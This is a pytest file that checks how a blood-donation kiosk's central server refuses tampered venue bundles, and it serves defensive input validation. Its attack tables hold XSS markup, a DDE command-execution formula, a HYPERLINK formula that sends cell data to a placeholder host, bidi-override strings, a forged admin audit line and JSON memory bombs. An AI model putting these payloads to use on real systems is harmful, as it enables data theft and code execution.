"""The centre reads every value of a bundle as the venue's own forms check it (issue 13): a
bundle signed by a trusted venue but holding a value no venue could export is refused whole,
with one line naming the bundle, the member, the row and the field, and every table of the
centre is left as it was (row counts and a hash of the rows).

The hostile bundles are signed with the test venues' key: only a trusted bundle reaches these
checks (tests/cli/test_trust.py refuses the others before).
"""

from __future__ import annotations

import json
import sqlite3
from datetime import date

import pytest

from kiosk.domain.exchange.columns import (
    EVENT_COLUMNS,
    EVENTS_CSV,
    FHIR_JSON,
    MANIFEST,
    VISITS_JSON,
)
from kiosk.domain.exchange.files import csv_bytes, file_entry
from kiosk.domain.exchange.verify import bundle_members
from kiosk.domain.questionnaire import answers_to_json, clean_answers
from tests.support.centre_bundles import events_of, first, refused, resigned, signed_zip, visits_of
from tests.support.factories import expected_answers
from tests.support.venue_day import VENUE_NAME, VENUE_PUBLIC, venue_bundle


@pytest.fixture(scope="module")
def day(tmp_path_factory):
    """Twelve visits: donations, both deferrals, a no-show, one left, one still waiting."""
    return venue_bundle(tmp_path_factory.mktemp("venue"), donors=12, still_waiting=1)


@pytest.fixture
def centre(tmp_path, kiosk_command):
    url = f"sqlite:///{tmp_path / 'centre.sqlite3'}"
    run = kiosk_command(tmp_path / "centre", url)
    added = run("central", "trust", "add", VENUE_NAME, VENUE_PUBLIC)
    assert added.exit_code == 0, added.output
    run.url = url  # type: ignore[attr-defined]
    return run


# (what the visit must be, the changes, what the line says)
VISIT_ATTACKS = {
    "cin-markup": (
        {"donor_cin": None},
        {"donor_cin": "<img src=x onerror=alert(1)>"},
        "donor_cin: '<img src=x onerror=alert(1)>' is not a CIN a venue accepts",
    ),
    "systolic-99999": (
        {"decision": None},
        {"systolic": 99999},
        "systolic: 99999 is not a blood pressure a venue accepts (60 to 260)",
    ),
    "haemoglobin-1e308": (
        {"decision": None},
        {"hemoglobin_g_dl": 1e308},
        "hemoglobin_g_dl: 1e+308 is not a haemoglobin value a venue accepts",
    ),
    "weight-minus-5": (
        {"decision": None},
        {"weight_kg": -5},
        "weight_kg: -5.0 is not a weight a venue accepts (30 to 250)",
    ),
    "birth-1066": (
        {},
        {"birth_date": "1066-10-14"},
        "birth_date: 1066-10-14 is not a birth date a venue accepts (older than 65",
    ),
    "category-hacker": (
        {},
        {"category": "hacker"},
        "category: 'hacker' is not a donor category a venue accepts",
    ),
    "category-root": ({}, {"category": "root"}, "category: 'root'"),
    "name-formula": (
        {},
        {"last_name": '=HYPERLINK("http://x.example/?"&A1,"ok")'},
        "last_name: '=HYPERLINK(",
    ),
    "name-bidi-override": ({}, {"first_name": "Fat\u202eima"}, "first_name: 'Fat\\u202eima'"),
    "phone": ({}, {"phone": "+33612345678"}, "phone: '+33612345678' is not a phone number"),
    "age-not-of-birth-date": ({}, {"age": 99}, "age: 99 is not the donor's age"),
    "blood-group": ({}, {"declared_blood_group": "Z+"}, "declared_blood_group: 'Z+'"),
    "queue-number-0": ({}, {"queue_number": 0}, "queue_number: 0 is not a queue number"),
    "registered-another-day": (
        {},
        {"registered_at": "2026-11-20T09:00:00+00:00"},
        "registered_at: 2026-11-20T09:00:00+00:00 is not a registration time",
    ),
    "registered-after-export": (
        {},
        {"registered_at": "2026-11-24T23:00:00+00:00"},
        "after the bundle was made",
    ),
    "reason-code": (
        {"decision": "deferred_permanent"},
        {"deferral_reason": "because"},
        "deferral_reason: 'because' is not a deferral reason",
    ),
    "deferral-ten-years": (
        {"decision": "deferred_temporary"},
        {"deferral_until": "2036-11-24"},
        "deferral_until: 2036-11-24 is not a deferral's end a venue accepts (more than three",
    ),
    "eligible-with-a-reason": (
        {"decision": "eligible"},
        {"deferral_reason": "other"},
        "deferral_reason: 'other' is not a deferral reason a venue accepts (given without",
    ),
    "interviewer-markup": (
        {"decision": None},
        {"interviewer": "<b>dr</b>"},
        "interviewer: '<b>dr</b>' is not a staff account's name",
    ),
    "bag-number-markup": (
        {"bag_number": None},
        {"bag_number": "<svg onload=1>"},
        "bag_number: '<svg onload=1>' is not a bag number a venue accepts",
    ),
    "bag-number-formula": ({"bag_number": None}, {"bag_number": "=1+1"}, "bag_number: '=1+1'"),
    "volume": ({"bag_number": None}, {"volume_ml": 5000}, "volume_ml: 5000 is not a volume"),
    "donation-before-start": (
        {"bag_number": None},
        {"donation_ended_at": "2026-11-24T07:00:00+00:00"},
        "donation_ended_at: 2026-11-24T07:00:00+00:00",
    ),
    "done-without-a-donation": (
        {"decision": "deferred_permanent"},
        {"stage_final": "done"},
        "stage_final: 'done' is not a stage a venue accepts (a visit there needs",
    ),
    "huge-text": ({}, {"last_name": "A" * 5000}, "last_name: longer than 1000 characters"),
    "answers-not-json": (
        {},
        {"questionnaire_answers": "{not json"},
        "questionnaire_answers: '{not json' is not the questionnaire's answers a venue accepts",
    ),
    "answers-to-no-question": (
        {},
        {"questionnaire_answers": json.dumps({"root": {"answer": "yes", "date": None}})},
        "questionnaire_answers: ",
    ),
    "severity-unknown": (
        {"bag_number": None},
        {"adverse_severity": "apocalyptic"},
        "adverse_severity: 'apocalyptic' is not one of mild, moderate, severe",
    ),
    "severity-without-a-reaction": (
        {"bag_number": None, "adverse_event": "none"},
        {"adverse_severity": "severe"},
        "adverse_severity: 'severe' is not a reaction's severity a venue accepts",
    ),
    "note-bidi-override": (
        {"decision": None},
        {"screening_note": "ok\u202e"},
        "screening_note: 'ok\\u202e' is not the doctor's note",
    ),
    "note-too-long": (
        {"bag_number": None},
        {"donation_note": "x" * 1001},
        "donation_note: longer than 1000 characters",
    ),
}


@pytest.mark.parametrize("attack", list(VISIT_ATTACKS))
def test_a_value_no_venue_exports_refuses_the_bundle(day, centre, tmp_path, attack):
    wanted, changes, expected = VISIT_ATTACKS[attack]
    visits = visits_of(day.bundle)
    index = first(visits, **wanted)
    visits[index].update(changes)
    refused(centre, tmp_path, resigned(day.bundle, visits), f"visits.json row {index + 1}, ")
    line = refused(centre, tmp_path, resigned(day.bundle, visits), expected)
    assert line.startswith(f"kiosk: {tmp_path / 'day.zip'}: visits.json row {index + 1}, ")


EVENT_ATTACKS = {
    "actor-formula": ({"actor": "=cmd|' /C calc'!A0"}, "actor: \"=cmd|' /C calc'!A0\" is not"),
    "actor-markup": ({"actor": "<script>x</script>"}, "actor: '<script>x</script>'"),
    "unknown-action": ({"action": "grant_admin"}, "action: 'grant_admin' is not an action"),
    "desk-bidi": ({"desk": "Desk\u202e1"}, "desk: 'Desk\\u202e1' is not a desk's name"),
    "stage": ({"to_stage": "heaven"}, "to_stage: 'heaven' is not a stage"),
    "another-day": ({"at": "2025-01-01T09:00:00+00:00"}, "at: 2025-01-01T09:00:00+00:00"),
    "number": ({"queue_number": "12345678"}, "queue_number: '12345678' is not a queue number"),
}


@pytest.mark.parametrize("attack", list(EVENT_ATTACKS))
def test_an_audit_line_no_venue_writes_refuses_the_bundle(day, centre, tmp_path, attack):
    changes, expected = EVENT_ATTACKS[attack]
    events = events_of(day.bundle)
    events[2].update(changes)
    content = csv_bytes(EVENT_COLUMNS, events)
    refused(centre, tmp_path, resigned(day.bundle, events=content), "events.csv line 4, ", expected)


def test_an_arbitrary_audit_line_added_to_the_log_is_refused(day, centre, tmp_path):
    events = events_of(day.bundle)
    events.append(
        {
            "at": "2026-11-24T08:00:30+00:00",
            "actor": "mallory",
            "device": "10.0.0.66",
            "campaign_date": "",
            "queue_number": "",
            "action": "staff_add",
            "from_stage": "",
            "to_stage": "",
            "desk": "",
            "detail": "mallory (coordinator)",
        }
    )
    content = csv_bytes(EVENT_COLUMNS, events)
    refused(
        centre,
        tmp_path,
        resigned(day.bundle, events=content),
        f"events.csv line {len(events) + 1}, action: 'staff_add' is not an action",
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("9999-12-31T23:59:59-14:00", "registered_at"),
        ("0001-01-01T00:00:00+14:00", "registered_at"),
    ],
)
def test_a_time_at_the_calendar_edge_is_one_line(day, centre, tmp_path, value, expected):
    visits = visits_of(day.bundle)
    visits[0]["registered_at"] = value
    refused(centre, tmp_path, resigned(day.bundle, visits), "visits.json row 1, ", expected)


def test_the_untouched_bundle_goes_in(day, centre, tmp_path):
    """The control: the same re-signing with nothing changed is imported."""
    path = tmp_path / "day.zip"
    path.write_bytes(resigned(day.bundle, visits_of(day.bundle)))
    result = centre("central", "import", str(path))
    assert result.exit_code == 0, result.output
    assert "12 visits" in result.output


# --- bounded work on hostile members ------------------------------------------------------------


def with_fhir(bundle: bytes, content: bytes) -> bytes:
    files = bundle_members(bundle)
    manifest = json.loads(files[MANIFEST])
    files[FHIR_JSON] = content
    manifest["files"][FHIR_JSON] = file_entry(content)
    files[MANIFEST] = json.dumps(manifest).encode()
    return signed_zip(files)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b'{"entry": ' + b"[" * 5000 + b"]" * 5000 + b"}", "fhir.json: nested more than 32 deep"),
        (b'{"resourceType": "Bundle", "entry": [1e999999]}', "fhir.json or the manifest's"),
        (b'{"entry": [' + b"{}," * 6_000_000 + b"{}]}", "fhir.json: more than 5000000 objects"),
        (b'{"entry": [{"resource": 7}]}', "fhir.json or the manifest's counts cannot be read"),
    ],
    ids=["deep", "huge-number", "many-objects", "wrong-shape"],
)
def test_a_hostile_fhir_json_is_one_line_in_bounded_memory(
    day, centre, tmp_path, content, expected
):
    import tracemalloc

    data = with_fhir(day.bundle, content)
    path = tmp_path / "day.zip"
    path.write_bytes(data)
    tracemalloc.start()
    try:
        verified = centre("verify-export", str(path))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert verified.exit_code == 1, verified.output
    assert verified.output.strip().splitlines() == [verified.output.strip().splitlines()[0]], (
        verified.output
    )
    assert verified.output.startswith(f"{path}: {expected}"), verified.output
    assert "Traceback" not in verified.output and "unexpected error" not in verified.output
    assert peak < 150_000_000, peak
    refused(centre, tmp_path, data, expected)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"stage_final": 5}, "visits.json row 1, stage_final: not text"),
        ({"decision": ["x"]}, "visits.json row 1, decision: not text"),
        ({"queue_number": 10**17}, "visits.json row 1, queue_number: 100000000000000000 is not"),
    ],
)
def test_a_value_of_the_wrong_shape_is_one_line_never_a_traceback(
    day, centre, tmp_path, change, expected
):
    files = bundle_members(day.bundle)
    document = json.loads(files[VISITS_JSON])
    document["visits"][0].update(change)
    files[VISITS_JSON] = json.dumps(document).encode()
    manifest = json.loads(files[MANIFEST])
    manifest["files"][VISITS_JSON] = file_entry(files[VISITS_JSON])
    manifest.pop("figures")  # else the figures' check refuses it first
    files[MANIFEST] = json.dumps(manifest).encode()
    path = tmp_path / "day.zip"
    path.write_bytes(signed_zip(files))
    verified = centre("verify-export", str(path))
    assert "Traceback" not in verified.output and "unexpected error" not in verified.output
    if verified.exit_code:  # the figures could not be counted, or are not those of the visits
        assert verified.output.startswith(f"{path}: "), verified.output
    refused(centre, tmp_path, path.read_bytes(), expected)


def test_members_are_hashed_as_they_stream_and_only_those_read_later_are_kept(day):
    from kiosk.domain.exchange.verify import KEPT, checked_bundle

    report, kept = checked_bundle(day.bundle)
    assert report.ok and report.files == 5
    assert set(kept) == {MANIFEST, "signature.json", VISITS_JSON, EVENTS_CSV}
    assert "visits.xlsx" not in KEPT and "visits.csv" not in KEPT


def test_answers_notes_and_a_reactions_severity_reach_the_centre(day, centre, tmp_path):
    visits = visits_of(day.bundle)
    visit = visits[first(visits, bag_number=None)]
    day_of_visit = date.fromisoformat(visit["campaign_date"])
    answers, _ = clean_answers(expected_answers(), visit["sex"], day_of_visit)
    visit["questionnaire_answers"] = answers_to_json(answers)
    visit["screening_note"] = "Tension contrôlée deux fois"
    visit.update(adverse_event="vasovagal", adverse_severity="moderate", donation_note="Allongé")
    path = tmp_path / "day.zip"
    path.write_bytes(resigned(day.bundle, visits))
    result = centre("central", "import", str(path))
    assert result.exit_code == 0, result.output
    with sqlite3.connect(centre.url.removeprefix("sqlite:///")) as database:
        stored = database.execute(
            "SELECT visit.answers, screening.note, donation.adverse_severity, donation.note "
            "FROM visit JOIN screening ON screening.visit_id = visit.id "
            "JOIN donation ON donation.visit_id = visit.id WHERE visit.queue_number = ?",
            (visit["queue_number"],),
        ).fetchone()
    assert json.loads(stored[0]) == json.loads(visit["questionnaire_answers"])
    assert stored[1:] == ("Tension contrôlée deux fois", "moderate", "Allongé")
